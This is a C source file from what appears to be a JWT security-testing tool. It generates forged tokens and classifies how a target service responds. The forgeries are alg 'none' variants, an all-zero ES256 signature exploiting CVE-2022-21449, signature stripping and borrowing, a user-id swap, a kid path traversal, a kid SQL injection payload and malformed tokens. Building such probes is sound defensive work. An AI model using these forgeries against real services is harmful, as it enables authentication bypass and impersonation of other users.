/* Forged tokens for the hs256 and token-expiry checks (see hx/probes/forge.h). */
#include "hx/probes/forge.h"

#include <jansson.h>
#include <stdarg.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "cmn/error.h"
#include "hx/jwt.h"

#define FORGE_OVERSIZE 12000

struct forge_set {
    struct hx_forgery *out;
    size_t max;
    size_t n;
    int rc;
};

static void forge_add(struct forge_set *s, const char *name, enum hx_forge_path path,
                      bool any_refusal, char *token, const char *fmt, ...)
    __attribute__((format(printf, 6, 7)));

/* Takes token (NULL means the build ran out of memory). */
static void
forge_add(struct forge_set *s, const char *name, enum hx_forge_path path, bool any_refusal,
          char *token, const char *fmt, ...)
{
    struct hx_forgery *f;
    va_list ap;

    if (token == NULL) {
        if (s->rc == 0)
            s->rc = CMN_E_NOMEM;
        return;
    }
    if (s->n >= s->max) {
        free(token);
        if (s->rc == 0)
            s->rc = CMN_E_TOOBIG;
        return;
    }
    f = &s->out[s->n++];
    memset(f, 0, sizeof(*f));
    snprintf(f->name, sizeof(f->name), "%s", name);
    va_start(ap, fmt);
    vsnprintf(f->what, sizeof(f->what), fmt, ap);
    va_end(ap);
    f->token = token;
    f->path = path;
    f->any_refusal = any_refusal;
}

static char *
forge_concat(const char *a, size_t an, const char *b)
{
    size_t bn = strlen(b);
    char *out = malloc(an + bn + 1);
    if (out == NULL)
        return NULL;
    memcpy(out, a, an);
    memcpy(out + an, b, bn + 1);
    return out;
}

/* Returns new: token with c inserted at byte offset at. */
static char *
forge_insert(const char *token, size_t at, char c)
{
    size_t n = strlen(token);
    char *out = malloc(n + 2);
    if (out == NULL)
        return NULL;
    memcpy(out, token, at);
    out[at] = c;
    memcpy(out + at + 1, token + at, n - at + 1);
    return out;
}

static char *
forge_build(const char *header, const char *payload, enum hx_jwt_sig sig, const char *mac_alg,
            const void *key, size_t key_len, const char *raw_sig)
{
    struct hx_jwt_build b = {
        .header_json = header,
        .payload_json = payload,
        .sig = sig,
        .alg_for_mac = mac_alg,
        .key = key,
        .key_len = key_len,
        .raw_sig = raw_sig,
    };
    return hx_jwt_build(&b);
}

static void
forge_missing(char *missing, size_t size, const char *what)
{
    size_t len;
    if (missing == NULL || size == 0)
        return;
    len = strlen(missing);
    if (len + 2 + strlen(what) + 1 > size)
        return;
    snprintf(missing + len, size - len, "%s%s", len > 0 ? ", " : "", what);
}

/* Payload text with one member changed (value new, taken) or removed (NULL). */
static char *
forge_payload_with(const json_t *payload, const char *key, json_t *value)
{
    json_t *copy = json_deep_copy(payload);
    char *text;
    if (copy == NULL) {
        json_decref(value);
        return NULL;
    }
    if (value != NULL)
        json_object_set_new(copy, key, value);
    else
        json_object_del(copy, key);
    text = hx_jwt_json(copy);
    json_decref(copy);
    return text;
}

int
hx_forge_hs256(const struct hx_forge_in *in, struct hx_forgery *out, size_t max, size_t *n,
               char *missing, size_t missing_size)
{
    struct hx_jwt a = {0};
    struct forge_set s = {.out = out, .max = max};
    const char *claim = in->user_claim != NULL ? in->user_claim : "user_id";
    const char *sig;
    char *pa = NULL, *tmp = NULL;
    size_t si_len;
    static const char *const none_spellings[] = {"none", "None", "NONE"};
    long long exp = 0;

    if (missing != NULL && missing_size > 0)
        missing[0] = '\0';
    if (hx_jwt_parse(in->token, &a, NULL, 0) != 0)
        return CMN_E_INVAL;
    pa = hx_jwt_json(a.payload);
    if (pa == NULL) {
        hx_jwt_cleanup(&a);
        return CMN_E_NOMEM;
    }
    sig = a.sig_b64;
    si_len = a.signing_input_len;

    for (size_t i = 0; i < 3; i++) {
        char header[64], name[48];
        snprintf(header, sizeof(header), "{\"alg\":\"%s\",\"typ\":\"JWT\"}", none_spellings[i]);
        snprintf(name, sizeof(name), "alg-%s-unsigned", none_spellings[i]);
        forge_add(&s, name, HX_FORGE_PATH_SELF, false,
                  forge_build(header, pa, HX_JWT_SIG_NONE, NULL, NULL, 0, NULL),
                  "header alg \"%s\", empty signature", none_spellings[i]);
        snprintf(name, sizeof(name), "alg-%s-signed", none_spellings[i]);
        forge_add(&s, name, HX_FORGE_PATH_SELF, false,
                  forge_build(header, pa, HX_JWT_SIG_RAW, NULL, NULL, 0, sig),
                  "header alg \"%s\", the genuine signature kept", none_spellings[i]);
    }
    forge_add(&s, "alg-duplicate-header", HX_FORGE_PATH_SELF, false,
              forge_build("{\"alg\":\"HS256\",\"typ\":\"JWT\",\"alg\":\"none\"}", pa,
                          HX_JWT_SIG_NONE, NULL, NULL, 0, NULL),
              "header with alg twice (HS256 then none), empty signature");
    if (in->secret != NULL) {
        forge_add(&s, "hs384-real-secret", HX_FORGE_PATH_SELF, false,
                  forge_build("{\"alg\":\"HS384\",\"typ\":\"JWT\"}", pa, HX_JWT_SIG_HMAC, "HS384",
                              in->secret, in->secret_len, NULL),
                  "alg HS384, signed with the real secret");
        forge_add(&s, "hs512-real-secret", HX_FORGE_PATH_SELF, false,
                  forge_build("{\"alg\":\"HS512\",\"typ\":\"JWT\"}", pa, HX_JWT_SIG_HMAC, "HS512",
                              in->secret, in->secret_len, NULL),
                  "alg HS512, signed with the real secret");
    } else {
        forge_missing(missing, missing_size, "HS384/HS512 with the real secret (needs the secret)");
    }
    forge_add(
        &s, "alg-rs256-header", HX_FORGE_PATH_SELF, false,
        forge_build("{\"alg\":\"RS256\",\"typ\":\"JWT\"}", pa, HX_JWT_SIG_RAW, NULL, NULL, 0, sig),
        "header alg RS256, the genuine HMAC signature kept");
    forge_add(
        &s, "alg-es256-header", HX_FORGE_PATH_SELF, false,
        forge_build("{\"alg\":\"ES256\",\"typ\":\"JWT\"}", pa, HX_JWT_SIG_RAW, NULL, NULL, 0, sig),
        "header alg ES256, the genuine HMAC signature kept");
    {
        /* ES256 with r = s = 0: a verifier without the range check of
         * FIPS 186-4 (CVE-2022-21449 in Java) takes it for any message; kid
         * kept so a JWKS-based verifier reaches its key */
        char *htext = hx_forge_header("ES256", json_string_value(json_object_get(a.header, "kid")),
                                      NULL, NULL, NULL);
        forge_add(&s, "signature-es256-zero", HX_FORGE_PATH_SELF, false,
                  htext != NULL ? forge_build(htext, pa, HX_JWT_SIG_RAW, NULL, NULL, 0,
                                              "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
                                              "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
                                : NULL,
                  "alg ES256 with an all-zero signature (r = s = 0, the psychic signature "
                  "of CVE-2022-21449)");
        free(htext);
    }
    forge_add(&s, "signature-stripped", HX_FORGE_PATH_SELF, false,
              forge_concat(in->token, si_len + 1, ""),
              "genuine header and payload, signature segment empty");
    forge_add(&s, "signature-segment-missing", HX_FORGE_PATH_SELF, false,
              forge_concat(in->token, si_len, ""), "genuine header and payload, two segments only");
    if (in->other_token != NULL) {
        const char *dot = strrchr(in->other_token, '.');
        tmp = forge_concat(in->token, si_len + 1, dot != NULL ? dot + 1 : "");
        forge_add(&s, "other-token-signature", HX_FORGE_PATH_SELF, false, tmp,
                  "genuine header and payload with another user's token signature");
        tmp = NULL;
    } else {
        forge_missing(missing, missing_size, "another token's signature (needs a second user)");
    }
    if (in->other_user_id != NULL) {
        char *p = forge_payload_with(a.payload, claim, json_string(in->other_user_id));
        forge_add(&s, "payload-user-switched", HX_FORGE_PATH_OTHER, false,
                  p == NULL ? NULL
                            : forge_build("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", p, HX_JWT_SIG_RAW,
                                          NULL, NULL, 0, sig),
                  "%s switched to another user's id, genuine signature kept", claim);
        free(p);
    } else {
        forge_missing(missing, missing_size, "user id switched (needs a second user)");
    }
    if (hx_jwt_claim_int(&a, "exp", &exp) == 0 && exp <= LLONG_MAX - 3600) {
        /* the target's exp: no arithmetic that can overflow */
        char *p = forge_payload_with(a.payload, "exp", json_integer(exp + 3600));
        forge_add(&s, "payload-exp-extended", HX_FORGE_PATH_SELF, false,
                  p == NULL ? NULL
                            : forge_build("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", p, HX_JWT_SIG_RAW,
                                          NULL, NULL, 0, sig),
                  "exp moved one hour later, genuine signature kept");
        free(p);
    }
    forge_add(&s, "kid-dev-null", HX_FORGE_PATH_SELF, false,
              forge_build("{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"../../../../../../../dev/"
                          "null\"}",
                          pa, HX_JWT_SIG_HMAC, "HS256", "", 0, NULL),
              "kid pointing at /dev/null, signed with an empty key");
    forge_add(&s, "kid-sql-injection", HX_FORGE_PATH_SELF, false,
              forge_build("{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"x' UNION SELECT "
                          "'forged-key'-- \"}",
                          pa, HX_JWT_SIG_HMAC, "HS256", "forged-key", 10, NULL),
              "kid with SQL injection selecting a key, signed with that key");
    if (in->other_user_id != NULL && pa[0] == '{' && pa[1] != '}') {
        size_t plen = strlen(pa) + strlen(claim) + strlen(in->other_user_id) + 16;
        char *p = malloc(plen);
        if (p != NULL)
            snprintf(p, plen, "{\"%s\":\"%s\",%s", claim, in->other_user_id, pa + 1);
        if (in->secret != NULL)
            forge_add(&s, "duplicate-claim-signed", HX_FORGE_PATH_SELF, false,
                      p == NULL
                          ? NULL
                          : forge_build("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", p, HX_JWT_SIG_HMAC,
                                        "HS256", in->secret, in->secret_len, NULL),
                      "%s twice (another user's id first, the owner's last), signed with the "
                      "real secret",
                      claim);
        forge_add(&s, "duplicate-claim", HX_FORGE_PATH_SELF, false,
                  p == NULL ? NULL
                            : forge_build("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", p, HX_JWT_SIG_RAW,
                                          NULL, NULL, 0, sig),
                  "%s twice (another user's id first), genuine signature kept", claim);
        free(p);
    }
    {
        const char *dot2 = in->token + si_len;
        size_t sig_n = strlen(dot2 + 1);
        forge_add(&s, "base64url-invalid-signature", HX_FORGE_PATH_SELF, false,
                  forge_insert(in->token, si_len + 1 + sig_n / 2, '!'),
                  "a '!' inserted in the genuine signature segment");
        forge_add(&s, "base64url-invalid-payload", HX_FORGE_PATH_SELF, false,
                  forge_insert(in->token, (size_t)(strchr(in->token, '.') - in->token) + 2, '*'),
                  "a '*' inserted in the genuine payload segment");
    }
    forge_add(&s, "extra-segment", HX_FORGE_PATH_SELF, false,
              forge_concat(in->token, strlen(in->token), ".e30"),
              "the genuine token with a fourth segment");
    forge_add(&s, "extra-empty-segment", HX_FORGE_PATH_SELF, false,
              forge_concat(in->token, strlen(in->token), "."),
              "the genuine token with a trailing dot");
    {
        char *pad = malloc(FORGE_OVERSIZE + 1);
        char *p = NULL;
        if (pad != NULL) {
            memset(pad, 'A', FORGE_OVERSIZE);
            pad[FORGE_OVERSIZE] = '\0';
            p = forge_payload_with(a.payload, "pad", json_string(pad));
            free(pad);
        }
        forge_add(&s, "oversized", HX_FORGE_PATH_SELF, true,
                  p == NULL ? NULL
                            : forge_build("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", p, HX_JWT_SIG_RAW,
                                          NULL, NULL, 0, sig),
                  "a token of more than %d bytes, genuine signature kept", FORGE_OVERSIZE);
        free(p);
    }
    free(pa);
    hx_jwt_cleanup(&a);
    *n = s.n;
    if (s.rc != 0) {
        hx_forge_free(out, s.n);
        *n = 0;
    }
    return s.rc;
}

/* The genuine claims re-signed with changes: iat/exp set (or left out when
 * < 0), user claim replaced when user is given. */
static char *
forge_resign(const struct hx_forge_in *in, const json_t *payload, const char *user, long long iat,
             long long exp, bool exp_as_string)
{
    json_t *copy = json_deep_copy(payload);
    char *text, *tok;
    const char *claim = in->user_claim != NULL ? in->user_claim : "user_id";

    if (copy == NULL)
        return NULL;
    if (user != NULL)
        json_object_set_new(copy, claim, json_string(user));
    json_object_set_new(copy, "iat", json_integer(iat));
    if (exp < 0) {
        json_object_del(copy, "exp");
    } else if (exp_as_string) {
        char buf[32];
        snprintf(buf, sizeof(buf), "%lld", exp);
        json_object_set_new(copy, "exp", json_string(buf));
    } else {
        json_object_set_new(copy, "exp", json_integer(exp));
    }
    text = hx_jwt_json(copy);
    json_decref(copy);
    if (text == NULL)
        return NULL;
    if (in->pkey != NULL) {
        /* as the target signs: its alg with its key, under its kid */
        const char *alg = in->pkey_alg != NULL ? in->pkey_alg : "EdDSA";
        char *htext = hx_forge_header(alg, in->kid, NULL, NULL, NULL);
        if (htext != NULL) {
            struct hx_jwt_build b = {.header_json = htext,
                                     .payload_json = text,
                                     .sig = HX_JWT_SIG_PKEY,
                                     .pkey = (void *)in->pkey,
                                     .alg_for_pkey = alg};
            tok = hx_jwt_build(&b);
        } else {
            tok = NULL;
        }
        free(htext);
    } else {
        tok = forge_build("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", text, HX_JWT_SIG_HMAC, "HS256",
                          in->secret, in->secret_len, NULL);
    }
    free(text);
    return tok;
}

int
hx_forge_expiry(const struct hx_forge_in *in, struct hx_forgery *out, size_t max, size_t *n)
{
    struct hx_jwt a = {0};
    struct forge_set s = {.out = out, .max = max};
    long long now = (long long)in->now;
    /* at most ten years, so that now + life cannot overflow whatever the
     * profile says */
    long long life = in->lifetime > 0 && in->lifetime < 10LL * 366 * 86400 ? in->lifetime : 604800;

    if (in->secret == NULL && in->pkey == NULL)
        return CMN_E_INVAL;
    if (hx_jwt_parse(in->token, &a, NULL, 0) != 0)
        return CMN_E_INVAL;
    forge_add(&s, "control-resigned", HX_FORGE_PATH_SELF, false,
              forge_resign(in, a.payload, NULL, now, now + life, false),
              "the genuine claims re-signed with %s (must be accepted)",
              in->pkey != NULL ? "the target's key" : "the secret");
    forge_add(&s, "expired", HX_FORGE_PATH_SELF, false,
              forge_resign(in, a.payload, NULL, now - life - 3600, now - 3600, false),
              "expired one hour ago");
    forge_add(&s, "exp-missing", HX_FORGE_PATH_SELF, false,
              forge_resign(in, a.payload, NULL, now, -1, false), "no exp claim");
    forge_add(&s, "exp-not-integer", HX_FORGE_PATH_SELF, false,
              forge_resign(in, a.payload, NULL, now, now + life, true), "exp given as a string");
    forge_add(&s, "issued-in-future", HX_FORGE_PATH_SELF, false,
              forge_resign(in, a.payload, NULL, now + 6 * 3600, now + 6 * 3600 + life, false),
              "iat six hours in the future");
    if (in->fake_user_id != NULL)
        forge_add(&s, "unknown-user", HX_FORGE_PATH_FAKE, false,
                  forge_resign(in, a.payload, in->fake_user_id, now, now + life, false),
                  "a valid signature for a user id no account has");
    hx_jwt_cleanup(&a);
    *n = s.n;
    if (s.rc != 0) {
        hx_forge_free(out, s.n);
        *n = 0;
    }
    return s.rc;
}

char *
hx_forge_header(const char *alg, const char *kid, const json_t *jwk, const char *url_name,
                const char *url)
{
    json_t *h = json_pack("{s:s, s:s}", "alg", alg, "typ", "JWT");
    char *text;
    if (h == NULL)
        return NULL;
    if (kid != NULL)
        json_object_set_new(h, "kid", json_string(kid));
    if (jwk != NULL)
        json_object_set(h, "jwk", (json_t *)jwk);
    if (url_name != NULL && url != NULL)
        json_object_set_new(h, url_name, json_string(url));
    text = hx_jwt_json(h);
    json_decref(h);
    return text;
}

void
hx_forge_free(struct hx_forgery *f, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        free(f[i].token);
        f[i].token = NULL;
    }
}

enum hx_answer
hx_forge_judge(long status, long expect, bool any_refusal, bool cut_ok)
{
    if (status == 0)
        return cut_ok ? HX_ANSWER_REFUSED : HX_ANSWER_ERROR;
    if (status >= 500)
        return HX_ANSWER_ERROR;
    if (status == 429)
        return HX_ANSWER_LIMITED;
    if (status < 400)
        return HX_ANSWER_ACCEPTED;
    if (status == expect || any_refusal)
        return HX_ANSWER_REFUSED;
    return HX_ANSWER_WRONG_STATUS;
}

const char *
hx_answer_name(enum hx_answer a)
{
    switch (a) {
    case HX_ANSWER_REFUSED:
        return "refused";
    case HX_ANSWER_ACCEPTED:
        return "accepted";
    case HX_ANSWER_WRONG_STATUS:
        return "wrong status";
    case HX_ANSWER_ERROR:
        return "error";
    case HX_ANSWER_LIMITED:
        return "rate limited";
    }
    return "?";
}

const char *
hx_forge_class(const char *name)
{
    static const struct {
        const char *prefix, *cls;
    } classes[] = {
        {"alg-none", "alg-none"},
        {"alg-None", "alg-none"},
        {"alg-NONE", "alg-none"},
        {"alg-duplicate-header", "alg-none"},
        {"hs384-real-secret", "other-hmac-alg"},
        {"hs512-real-secret", "other-hmac-alg"},
        {"signature-", "signature"},
        {"other-token-signature", "signature"},
        /* a genuine signature with a character no base64url has: a lenient
         * decoder (one that skips it) still finds the genuine bytes, so it
         * grants nothing a forger lacks; a parser flaw, not a forgery */
        {"base64url-invalid-signature", "malformed"},
        {"embedded-jwk", "key-confusion"},
        {"foreign-key", "key-confusion"},
        {"hs256-public-key-", "key-confusion"},
        {"payload-", "payload-tampered"},
        {"base64url-invalid-payload", "payload-tampered"},
        {"duplicate-claim-signed", "duplicate-claims"},
        {"duplicate-claim", "payload-tampered"}, /* under the genuine signature */
        {"kid-", "header-injection"},
        {"jku-", "key-url"},
        {"x5u-", "key-url"},
        {"alg-rs256-header", "header-injection"},
        {"alg-es256-header", "header-injection"},
        {"extra-", "malformed"},
        {"oversized", "malformed"},
        {"control-resigned", "control"},
        {"expired", "expired"},
        {"exp-missing", "exp-missing"},
        {"exp-not-integer", "exp-missing"},
        {"issued-in-future", "future-iat"},
        {"unknown-user", "unknown-user"},
    };

    for (size_t i = 0; name != NULL && i < sizeof classes / sizeof classes[0]; i++)
        if (strncmp(name, classes[i].prefix, strlen(classes[i].prefix)) == 0)
            return classes[i].cls;
    return "other";
}
